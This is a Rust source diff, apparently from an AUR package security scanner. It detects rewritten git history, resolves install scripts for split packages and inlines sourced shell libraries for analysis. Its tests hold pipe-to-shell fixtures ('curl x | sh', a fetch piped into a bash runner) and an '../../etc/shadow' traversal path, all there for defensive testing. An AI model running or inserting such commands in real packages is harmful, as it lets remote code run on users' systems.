@@ -1,11 +1,44 @@
-use crate::shared::models::GitCommit;
-use std::path::PathBuf;
+use crate::shared::cache;
+use crate::shared::config::ScanConfig;
+use crate::shared::models::{GitCommit, HistoryRewrite};
+use regex::Regex;
+use std::io::Read;
+use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
-use std::time::{Duration, Instant};
+use std::sync::LazyLock;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
 
 const AUR_GIT_BASE: &str = "https://aur.archlinux.org";
 const GIT_TIMEOUT: Duration = Duration::from_secs(30);
 
+/// Bytes read from each repo file; larger files are analyzed by their prefix.
+const MAX_REPO_FILE_BYTES: u64 = 1024 * 1024;
+
+/// Repo files collected per package (AUR repos rarely hold more than a handful).
+const MAX_REPO_FILES: usize = 200;
+
+/// Files already read on their own (or meaningless to analyze) by `read_repo_files`.
+const REPO_FILES_SKIPPED: &[&str] = &["PKGBUILD", ".SRCINFO"];
+
+/// How deep `inline_sourced_files` follows libraries that source further libraries.
+const MAX_SOURCE_DEPTH: usize = 4;
+
+/// `source helpers.sh` / `. "$startdir/lib/common.sh"`: a shell library sourced from
+/// the package repo (bare, `./`, `$startdir/` or `$srcdir/` paths).
+static SOURCE_LINE_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"^\s*(?:source|\.)\s+["']?(?:\./|\$\{?(?:startdir|srcdir)\}?/)?([\w.+-]+(?:/[\w.+-]+)*)["']?\s*(?:$|[;&|#])"#,
+    )
+    .unwrap()
+});
+
+/// Left in `.git` of a clone that replaced one whose history the AUR rewrote.
+const HISTORY_REWRITE_MARKER: &str = "traur-history-rewrite.json";
+
+/// Start of a split package's `package_<name>()` function.
+static SPLIT_PACKAGE_FN_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?m)^\s*(?:function\s+)?package_([\w.@+-]+)\s*\(\s*\)\s*\{").unwrap());
+
 /// Clone or update the AUR git repo for a package. Returns the local path.
 pub fn ensure_repo(package_base: &str, cache_dir: &str) -> Result<PathBuf, String> {
     if package_base.is_empty()
@@ -18,31 +51,76 @@ pub fn ensure_repo(package_base: &str, cache_dir: &str) -> Result<PathBuf, Strin
     }
 
     let repo_path = PathBuf::from(cache_dir).join(package_base);
+    let url = format!("{AUR_GIT_BASE}/{package_base}.git");
 
     if repo_path.join(".git").exists() {
-        // Pull latest — if it fails, use the cached version rather than erroring out
-        let _ = run_with_timeout(
-            Command::new("git")
-                .args(["pull", "--ff-only"])
-                .current_dir(&repo_path),
-        );
+        update_repo(package_base, &repo_path, &url, &cache::rewritten_cache_dir())?;
     } else {
-        // Shallow clone
-        let url = format!("{AUR_GIT_BASE}/{package_base}.git");
-        let output = run_with_timeout(
-            Command::new("git")
-                .args(["clone", "--depth=50", &url, repo_path.to_str().unwrap()]),
-        )?;
-
-        if !output.status.success() {
-            let stderr = String::from_utf8_lossy(&output.stderr);
-            return Err(format!("git clone failed: {stderr}"));
-        }
+        clone_repo(&url, &repo_path)?;
     }
 
     Ok(repo_path)
 }
 
+/// Shallow clone of `url` into `repo_path`.
+fn clone_repo(url: &str, repo_path: &Path) -> Result<(), String> {
+    let output = run_with_timeout(
+        Command::new("git")
+            .args(["clone", "--depth=50", url])
+            .arg(repo_path),
+    )?;
+
+    if !output.status.success() {
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        return Err(format!("git clone failed: {stderr}"));
+    }
+    Ok(())
+}
+
+/// Fast-forward a cached clone. If the fetch fails, the cached version is used rather
+/// than erroring out. If the fetched head does not descend from the cached one, the
+/// remote history was rewritten (force push, deleted commits): the stale clone is
+/// moved to `kept_dir` for inspection, the package is cloned again, and the new clone
+/// records what happened for `read_history_rewrite`.
+fn update_repo(package_base: &str, repo_path: &Path, url: &str, kept_dir: &Path) -> Result<(), String> {
+    let git = |args: &[&str]| run_with_timeout(Command::new("git").args(args).current_dir(repo_path));
+
+    if !git(&["fetch", "--quiet", "origin"]).is_ok_and(|o| o.status.success()) {
+        return Ok(());
+    }
+    // Exit code 1 means "not an ancestor"; anything else (errors) is not evidence of a rewrite
+    let is_ancestor = git(&["merge-base", "--is-ancestor", "HEAD", "FETCH_HEAD"]).map(|o| o.status.code());
+    if is_ancestor != Ok(Some(1)) {
+        let _ = git(&["merge", "--ff-only", "--quiet", "FETCH_HEAD"]);
+        return Ok(());
+    }
+
+    let old_head = head_commit(repo_path).unwrap_or_default();
+    let detected_at = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
+    let kept = kept_dir.join(format!("{package_base}-{detected_at}"));
+    std::fs::rename(repo_path, &kept)
+        .map_err(|e| format!("AUR history of {package_base} was rewritten; failed to keep the stale clone: {e}"))?;
+    clone_repo(url, repo_path)?;
+
+    let rewrite = HistoryRewrite {
+        old_head,
+        new_head: head_commit(repo_path).unwrap_or_default(),
+        kept_at: kept.display().to_string(),
+        detected_at,
+    };
+    if let Ok(json) = serde_json::to_string(&rewrite) {
+        let _ = std::fs::write(repo_path.join(".git").join(HISTORY_REWRITE_MARKER), json);
+    }
+    Ok(())
+}
+
+/// The history rewrite `ensure_repo` found when it last replaced this clone, if any.
+/// Stays until the clone is evicted from the cache.
+pub fn read_history_rewrite(repo_path: &Path) -> Option<HistoryRewrite> {
+    let json = std::fs::read_to_string(repo_path.join(".git").join(HISTORY_REWRITE_MARKER)).ok()?;
+    serde_json::from_str(&json).ok()
+}
+
 /// Run a command with a timeout. Kills the process if it exceeds GIT_TIMEOUT.
 fn run_with_timeout(cmd: &mut Command) -> Result<Output, String> {
     let mut child = cmd
@@ -84,36 +162,233 @@ pub fn read_pkgbuild(repo_path: &std::path::Path) -> Result<String, String> {
 
 /// Read .install script if present.
 pub fn read_install_script(repo_path: &std::path::Path, pkgbuild_content: &str) -> Option<String> {
-    // Try to find install= directive in PKGBUILD
-    for line in pkgbuild_content.lines() {
-        let trimmed = line.trim();
-        if let Some(install_file) = trimmed.strip_prefix("install=") {
-            let install_file = install_file.trim_matches(|c| c == '\'' || c == '"');
-            return std::fs::read_to_string(repo_path.join(install_file)).ok();
-        }
+    let name = install_script_name(repo_path, pkgbuild_content)?;
+    std::fs::read_to_string(repo_path.join(name)).ok()
+}
+
+/// File name of the .install script: the PKGBUILD's `install=` value, or
+/// `<dirname>.install` / `install` if one of those exists.
+pub fn install_script_name(repo_path: &std::path::Path, pkgbuild_content: &str) -> Option<String> {
+    if let Some(install_file) = install_directive(pkgbuild_content) {
+        return Some(install_file);
     }
 
     // Fallback: check common names
-    for name in &[
+    [
         format!("{}.install", repo_path.file_name()?.to_str()?),
         "install".to_string(),
-    ] {
-        let path = repo_path.join(name);
-        if path.exists() {
-            return std::fs::read_to_string(path).ok();
-        }
+    ]
+    .into_iter()
+    .find(|name| repo_path.join(name).exists())
+}
+
+/// Read the install script of `member`, which may be one package of a split base.
+pub fn read_member_install_script(repo_path: &std::path::Path, pkgbuild_content: &str, member: &str) -> Option<String> {
+    let name = member_install_script_name(repo_path, pkgbuild_content, member)?;
+    std::fs::read_to_string(repo_path.join(name)).ok()
+}
+
+/// File name of the install script of `member`. Split packages can set `install=` per
+/// member, so an override in its `package_<member>()` function or its `pkgname` section
+/// of .SRCINFO wins; overrides of the other members are never used. Otherwise as
+/// `install_script_name`, for an `install=` outside the split package functions.
+pub fn member_install_script_name(repo_path: &std::path::Path, pkgbuild_content: &str, member: &str) -> Option<String> {
+    let functions = split_package_functions(pkgbuild_content);
+    if let Some((_, body)) = functions.iter().find(|(name, _)| *name == member)
+        && let Some(install_file) = install_directive(&pkgbuild_content[body.clone()])
+    {
+        return Some(install_file);
+    }
+    if let Ok(srcinfo) = std::fs::read_to_string(repo_path.join(".SRCINFO"))
+        && let Some(install_file) = srcinfo_member_install(&srcinfo, member)
+    {
+        return Some(install_file);
+    }
+
+    let mut shared = pkgbuild_content.to_string();
+    for (_, body) in functions.iter().rev() {
+        shared.replace_range(body.clone(), "");
     }
+    install_script_name(repo_path, &shared)
+}
 
+/// The first `install=` value in `content`, unquoted.
+fn install_directive(content: &str) -> Option<String> {
+    content.lines().find_map(|line| {
+        let install_file = line.trim().strip_prefix("install=")?;
+        Some(install_file.trim_matches(|c| c == '\'' || c == '"').to_string())
+    })
+}
+
+/// Member names and body ranges of the `package_<name>()` functions of a split
+/// PKGBUILD, braces counted naively.
+fn split_package_functions(content: &str) -> Vec<(&str, std::ops::Range<usize>)> {
+    SPLIT_PACKAGE_FN_RE
+        .captures_iter(content)
+        .map(|caps| {
+            let start = caps.get(0).map_or(0, |m| m.end());
+            let mut depth = 1usize;
+            let mut end = content.len();
+            for (i, c) in content[start..].char_indices() {
+                match c {
+                    '{' => depth += 1,
+                    '}' => {
+                        depth -= 1;
+                        if depth == 0 {
+                            end = start + i;
+                            break;
+                        }
+                    }
+                    _ => {}
+                }
+            }
+            (caps.get(1).map_or("", |m| m.as_str()), start..end)
+        })
+        .collect()
+}
+
+/// The `install` of `member`'s own `pkgname = <member>` section of .SRCINFO.
+fn srcinfo_member_install(content: &str, member: &str) -> Option<String> {
+    let mut in_member = false;
+    for line in content.lines() {
+        let Some((key, value)) = line.split_once('=') else {
+            continue;
+        };
+        match (key.trim(), value.trim()) {
+            ("pkgname", name) => in_member = name == member,
+            ("install", install_file) if in_member => return Some(install_file.to_string()),
+            _ => {}
+        }
+    }
     None
 }
 
+/// Read every other file in the package repo, except those matching `scan.exclude`.
+/// Symlinks and `.git` are not followed. Paths are repo-relative and `/`-separated.
+pub fn read_repo_files(repo_path: &std::path::Path, scan: &ScanConfig) -> Vec<(String, Vec<u8>)> {
+    let mut files = Vec::new();
+    let mut pending = vec![(repo_path.to_path_buf(), String::new())];
+
+    while let Some((dir, prefix)) = pending.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        let mut entries: Vec<_> = entries.flatten().collect();
+        entries.sort_by_key(|e| e.file_name());
+
+        for entry in entries {
+            let name = entry.file_name().to_string_lossy().to_string();
+            let rel = format!("{prefix}{name}");
+            let Ok(file_type) = entry.file_type() else {
+                continue;
+            };
+            if file_type.is_dir() {
+                if name != ".git" && !scan.is_excluded(&format!("{rel}/")) {
+                    pending.push((entry.path(), format!("{rel}/")));
+                }
+                continue;
+            }
+            if !file_type.is_file()
+                || (prefix.is_empty() && REPO_FILES_SKIPPED.contains(&name.as_str()))
+                || scan.is_excluded(&rel)
+            {
+                continue;
+            }
+            if files.len() == MAX_REPO_FILES {
+                return files;
+            }
+            let mut content = Vec::new();
+            if let Ok(file) = std::fs::File::open(entry.path())
+                && file.take(MAX_REPO_FILE_BYTES).read_to_end(&mut content).is_ok()
+            {
+                files.push((rel, content));
+            }
+        }
+    }
+
+    files
+}
+
+/// Repo files a script sources, in order of the `source` lines.
+pub fn sourced_files<'a>(content: &str, repo_files: &'a [(String, Vec<u8>)]) -> Vec<&'a str> {
+    content
+        .lines()
+        .filter_map(|line| SOURCE_LINE_RE.captures(line))
+        .filter_map(|caps| {
+            let path = caps.get(1)?.as_str();
+            repo_files.iter().find(|(rel, _)| rel == path).map(|(rel, _)| rel.as_str())
+        })
+        .collect()
+}
+
+/// Inline the repo files a PKGBUILD sources (`source ./helpers.sh`) after the line
+/// that sources them, so features see a payload split across the include boundary.
+/// Each inlined file is wrapped in `# traur: begin <path>` / `# traur: end <path>`
+/// comments so findings can be traced back to it. A file is inlined once; nested
+/// includes are followed up to `MAX_SOURCE_DEPTH` levels.
+pub fn inline_sourced_files(content: &str, repo_files: &[(String, Vec<u8>)]) -> String {
+    if sourced_files(content, repo_files).is_empty() {
+        return content.to_string();
+    }
+    let mut seen = Vec::new();
+    inline_into(content, repo_files, &mut seen, 0)
+}
+
+fn inline_into(content: &str, repo_files: &[(String, Vec<u8>)], seen: &mut Vec<String>, depth: usize) -> String {
+    let mut out = String::with_capacity(content.len());
+    for line in content.split_inclusive('\n') {
+        out.push_str(line);
+        if depth == MAX_SOURCE_DEPTH {
+            continue;
+        }
+        for path in sourced_files(line, repo_files) {
+            if seen.iter().any(|s| s == path) {
+                continue;
+            }
+            seen.push(path.to_string());
+            let Some((_, bytes)) = repo_files.iter().find(|(rel, _)| rel == path) else {
+                continue;
+            };
+            let mut body = inline_into(&String::from_utf8_lossy(bytes), repo_files, seen, depth + 1);
+            for text in [&mut out, &mut body] {
+                if !text.ends_with('\n') {
+                    text.push('\n');
+                }
+            }
+            out.push_str(&format!("# traur: begin {path}\n{body}# traur: end {path}\n"));
+        }
+    }
+    out
+}
+
+/// Undo `inline_sourced_files`: the PKGBUILD as committed, e.g. for hashing.
+pub fn strip_inlined(content: &str) -> String {
+    let mut out = String::with_capacity(content.len());
+    let mut end_marker: Option<String> = None;
+    for line in content.split_inclusive('\n') {
+        let bare = line.trim_end_matches('\n');
+        match &end_marker {
+            Some(end) => {
+                if bare == end {
+                    end_marker = None;
+                }
+            }
+            None => match bare.strip_prefix("# traur: begin ") {
+                Some(path) => end_marker = Some(format!("# traur: end {path}")),
+                None => out.push_str(line),
+            },
+        }
+    }
+    out
+}
+
 /// Parse git log into structured commits.
 pub fn read_git_log(repo_path: &std::path::Path, max_commits: usize) -> Vec<GitCommit> {
     let output = Command::new("git")
         .args([
             "log",
             &format!("-{max_commits}"),
-            "--format=%H%n%an%n%at%n%s%n---END---",
+            "--format=%H%n%an%n%ae%n%at%n%s%n---END---",
         ])
         .current_dir(repo_path)
         .output();
@@ -133,9 +408,9 @@ pub fn read_git_log(repo_path: &std::path::Path, max_commits: usize) -> Vec<GitC
             _ => break,
         };
         let author = lines.next().unwrap_or("").to_string();
+        let email = lines.next().unwrap_or("").to_string();
         let timestamp: u64 = lines.next().unwrap_or("0").parse().unwrap_or(0);
-        // message
-        let _ = lines.next();
+        let message = lines.next().unwrap_or("").to_string();
 
         // Skip the ---END--- delimiter
         while let Some(line) = lines.peek() {
@@ -148,7 +423,9 @@ pub fn read_git_log(repo_path: &std::path::Path, max_commits: usize) -> Vec<GitC
 
         commits.push(GitCommit {
             author,
+            email,
             timestamp,
+            message,
             diff: None,
         });
     }
@@ -156,6 +433,21 @@ pub fn read_git_log(repo_path: &std::path::Path, max_commits: usize) -> Vec<GitC
     commits
 }
 
+/// The commit the local clone is at.
+pub fn head_commit(repo_path: &std::path::Path) -> Option<String> {
+    let output = Command::new("git")
+        .args(["rev-parse", "HEAD"])
+        .current_dir(repo_path)
+        .output()
+        .ok()?;
+
+    if output.status.success() {
+        Some(String::from_utf8_lossy(&output.stdout).trim().to_string())
+    } else {
+        None
+    }
+}
+
 /// Read the PKGBUILD content at a specific git revision (e.g., "HEAD~1").
 pub fn read_pkgbuild_at_revision(repo_path: &std::path::Path, revision: &str) -> Option<String> {
     let output = Command::new("git")
@@ -171,6 +463,58 @@ pub fn read_pkgbuild_at_revision(repo_path: &std::path::Path, revision: &str) ->
     }
 }
 
+/// Find the most recent commit whose .SRCINFO declares the given full version
+/// (`[epoch:]pkgver-pkgrel`, as reported by `pacman -Q`). Used to locate the
+/// PKGBUILD of the locally installed version when diffing an upgrade.
+pub fn find_revision_for_version(repo_path: &std::path::Path, version: &str) -> Option<String> {
+    let output = Command::new("git")
+        .args(["log", "--format=%H", "--", ".SRCINFO"])
+        .current_dir(repo_path)
+        .output()
+        .ok()?;
+
+    if !output.status.success() {
+        return None;
+    }
+
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    stdout.lines().map(str::trim).filter(|h| !h.is_empty()).find_map(|hash| {
+        let srcinfo = Command::new("git")
+            .args(["show", &format!("{hash}:.SRCINFO")])
+            .current_dir(repo_path)
+            .output()
+            .ok()?;
+        let content = String::from_utf8_lossy(&srcinfo.stdout);
+        (srcinfo_version(&content)? == version).then(|| hash.to_string())
+    })
+}
+
+/// Extract the full version (`[epoch:]pkgver-pkgrel`) from .SRCINFO content.
+fn srcinfo_version(content: &str) -> Option<String> {
+    let mut pkgver = None;
+    let mut pkgrel = None;
+    let mut epoch = None;
+
+    for line in content.lines() {
+        let Some((key, value)) = line.trim().split_once('=') else {
+            continue;
+        };
+        let value = value.trim().to_string();
+        match key.trim() {
+            "pkgver" if pkgver.is_none() => pkgver = Some(value),
+            "pkgrel" if pkgrel.is_none() => pkgrel = Some(value),
+            "epoch" if epoch.is_none() => epoch = Some(value),
+            _ => {}
+        }
+    }
+
+    let base = format!("{}-{}", pkgver?, pkgrel?);
+    Some(match epoch {
+        Some(e) if e != "0" && !e.is_empty() => format!("{e}:{base}"),
+        _ => base,
+    })
+}
+
 /// Get the diff of the most recent commit.
 pub fn get_latest_diff(repo_path: &std::path::Path) -> Option<String> {
     let output = Command::new("git")
@@ -186,10 +530,168 @@ pub fn get_latest_diff(repo_path: &std::path::Path) -> Option<String> {
     }
 }
 
+/// Patches of the last `count` commits, newest first, each headed by
+/// `<short hash> <date> <author>: <subject>`.
+pub fn get_recent_log_patch(repo_path: &std::path::Path, count: usize) -> Option<String> {
+    let output = Command::new("git")
+        .args([
+            "log",
+            "-p",
+            &format!("-{count}"),
+            "--date=short",
+            "--format=%h %ad %an: %s",
+        ])
+        .current_dir(repo_path)
+        .output()
+        .ok()?;
+
+    if output.status.success() {
+        Some(String::from_utf8_lossy(&output.stdout).to_string())
+    } else {
+        None
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    #[test]
+    fn srcinfo_version_without_epoch() {
+        let srcinfo = "pkgbase = foo\n\tpkgver = 1.2.3\n\tpkgrel = 2\n\tarch = x86_64\n";
+        assert_eq!(srcinfo_version(srcinfo).as_deref(), Some("1.2.3-2"));
+    }
+
+    #[test]
+    fn srcinfo_version_with_epoch() {
+        let srcinfo = "pkgbase = foo\n\tpkgver = 1.0\n\tpkgrel = 1\n\tepoch = 2\n";
+        assert_eq!(srcinfo_version(srcinfo).as_deref(), Some("2:1.0-1"));
+    }
+
+    #[test]
+    fn srcinfo_version_missing_pkgrel() {
+        assert!(srcinfo_version("pkgbase = foo\n\tpkgver = 1.0\n").is_none());
+    }
+
+    #[test]
+    fn repo_files_skip_pkgbuild_git_and_excluded_paths() {
+        let repo = std::env::temp_dir().join(format!("traur-repo-files-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&repo);
+        for dir in [".git", "vendor", "patches"] {
+            std::fs::create_dir_all(repo.join(dir)).unwrap();
+        }
+        for file in ["PKGBUILD", ".git/config", "vendor/blob.js", "patches/fix.patch", "logo.png", "foo.install"] {
+            std::fs::write(repo.join(file), "x").unwrap();
+        }
+
+        let scan = ScanConfig {
+            exclude: vec!["*.png".into(), "vendor/".into()],
+            ..Default::default()
+        };
+        let mut paths: Vec<String> = read_repo_files(&repo, &scan).into_iter().map(|(p, _)| p).collect();
+        paths.sort();
+        let _ = std::fs::remove_dir_all(&repo);
+
+        assert_eq!(paths, ["foo.install", "patches/fix.patch"]);
+    }
+
+    #[test]
+    fn split_members_use_their_own_install_script() {
+        let repo = std::env::temp_dir().join(format!("traur-split-install-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&repo);
+        std::fs::create_dir_all(&repo).unwrap();
+        std::fs::write(
+            repo.join(".SRCINFO"),
+            "pkgbase = foo\n\tpkgver = 1.0\n\tinstall = foo.install\n\npkgname = foo-cli\n\npkgname = foo-daemon\n\tinstall = daemon-srcinfo.install\n",
+        )
+        .unwrap();
+        let pkgbuild = "pkgbase=foo\npkgname=(foo foo-gui foo-cli foo-daemon)\ninstall=foo.install\n\
+            package_foo() {\n  :\n}\n\
+            package_foo-gui() {\n  install=\"gui.install\"\n  if true; then :; fi\n}\n\
+            package_foo-cli() {\n  :\n}\n";
+        let names: Vec<Option<String>> = ["foo-gui", "foo-daemon", "foo-cli"]
+            .into_iter()
+            .map(|member| member_install_script_name(&repo, pkgbuild, member))
+            .collect();
+        let split_only = member_install_script_name(&repo, "package_a() {\n  install=a.install\n}\n", "b");
+        let _ = std::fs::remove_dir_all(&repo);
+
+        assert_eq!(names, [Some("gui.install".into()), Some("daemon-srcinfo.install".into()), Some("foo.install".into())]);
+        assert_eq!(split_only, None);
+    }
+
+    #[test]
+    fn inlines_sourced_repo_files() {
+        let repo_files = vec![
+            ("helpers.sh".to_string(), b"fetch() {\n  curl -s \"$1\"\n}\n. ./lib/more.sh\n".to_vec()),
+            ("lib/more.sh".to_string(), b"run() { bash; }\nsource helpers.sh\n".to_vec()),
+            ("notes.txt".to_string(), b"hello".to_vec()),
+        ];
+        let pkgbuild = "pkgname=foo\nsource=(foo.tar.gz)\nbuild() {\n  source \"$startdir/helpers.sh\"\n  fetch https://x.example/a | run\n}\n";
+        let inlined = inline_sourced_files(pkgbuild, &repo_files);
+
+        assert_eq!(sourced_files(pkgbuild, &repo_files), ["helpers.sh"]);
+        assert!(inlined.contains("  source \"$startdir/helpers.sh\"\n# traur: begin helpers.sh\nfetch() {\n"));
+        assert!(inlined.contains(". ./lib/more.sh\n# traur: begin lib/more.sh\nrun() { bash; }\n"));
+        // helpers.sh is only inlined once even though more.sh sources it again.
+        assert_eq!(inlined.matches("# traur: begin helpers.sh").count(), 1);
+        assert!(inlined.ends_with("# traur: end helpers.sh\n  fetch https://x.example/a | run\n}\n"));
+
+        // The source=() array and files outside the repo are left alone.
+        let plain = "source=(helpers.sh)\nsource /etc/profile\n";
+        assert_eq!(inline_sourced_files(plain, &repo_files), plain);
+
+        assert_eq!(strip_inlined(&inlined), pkgbuild);
+    }
+
+    fn git(dir: &Path, args: &[&str]) {
+        let status = Command::new("git")
+            .args(["-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "init.defaultBranch=master"])
+            .args(args)
+            .current_dir(dir)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .unwrap();
+        assert!(status.success(), "git {args:?}");
+    }
+
+    #[test]
+    fn rewritten_remote_history_keeps_stale_clone() {
+        let root = std::env::temp_dir().join(format!("traur-rewrite-{}", std::process::id()));
+        let (remote, cache, kept) = (root.join("remote"), root.join("git"), root.join("rewritten"));
+        for dir in [&remote, &cache, &kept] {
+            std::fs::create_dir_all(dir).unwrap();
+        }
+        git(&remote, &["init", "--quiet"]);
+        std::fs::write(remote.join("PKGBUILD"), "pkgname=foo\npkgver=1\n").unwrap();
+        git(&remote, &["add", "PKGBUILD"]);
+        git(&remote, &["commit", "--quiet", "-m", "Initial"]);
+        let url = format!("file://{}", remote.display());
+        let clone = cache.join("foo");
+        clone_repo(&url, &clone).unwrap();
+
+        // A new commit on top fast-forwards
+        std::fs::write(remote.join("PKGBUILD"), "pkgname=foo\npkgver=2\n").unwrap();
+        git(&remote, &["commit", "--quiet", "-am", "Update to 2"]);
+        update_repo("foo", &clone, &url, &kept).unwrap();
+        assert_eq!(read_pkgbuild(&clone).unwrap(), "pkgname=foo\npkgver=2\n");
+        assert!(read_history_rewrite(&clone).is_none());
+        let old_head = head_commit(&clone).unwrap();
+
+        // Amending the pushed commit rewrites history
+        std::fs::write(remote.join("PKGBUILD"), "pkgname=foo\npkgver=2\ncurl x | sh\n").unwrap();
+        git(&remote, &["commit", "--quiet", "--amend", "-am", "Update to 2"]);
+        update_repo("foo", &clone, &url, &kept).unwrap();
+        let rewrite = read_history_rewrite(&clone).unwrap();
+        assert_eq!(rewrite.old_head, old_head);
+        assert_eq!(Some(rewrite.new_head), head_commit(&clone));
+        assert!(read_pkgbuild(&clone).unwrap().contains("curl x | sh"));
+        assert_eq!(head_commit(Path::new(&rewrite.kept_at)), Some(old_head));
+
+        std::fs::remove_dir_all(&root).unwrap();
+    }
+
     #[test]
     fn rejects_path_traversal() {
         assert!(ensure_repo("../../etc/shadow", "/tmp").is_err());